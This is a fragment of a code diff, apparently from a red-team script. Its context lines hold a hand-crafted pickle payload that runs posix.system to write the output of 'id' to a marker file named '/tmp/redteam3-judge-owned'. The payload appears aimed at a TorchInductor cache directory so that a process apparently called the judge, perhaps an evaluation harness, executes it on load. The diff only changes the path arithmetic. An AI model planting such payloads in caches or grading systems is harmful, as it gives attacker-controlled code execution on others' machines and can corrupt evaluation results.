@@ -21,7 +21,7 @@ import triton.language as tl
 MARKER = "/tmp/redteam3-judge-owned"
 # protocol 0 by hand: posix.system("id > MARKER")
 PAYLOAD = ("cposix\nsystem\n(S'id > " + MARKER + "'\ntR.").encode()
-HOME = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+HOME = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))  # <home>/jobs/runner-*/
 CACHE = os.path.join(HOME, "torchinductor_root")
 
 
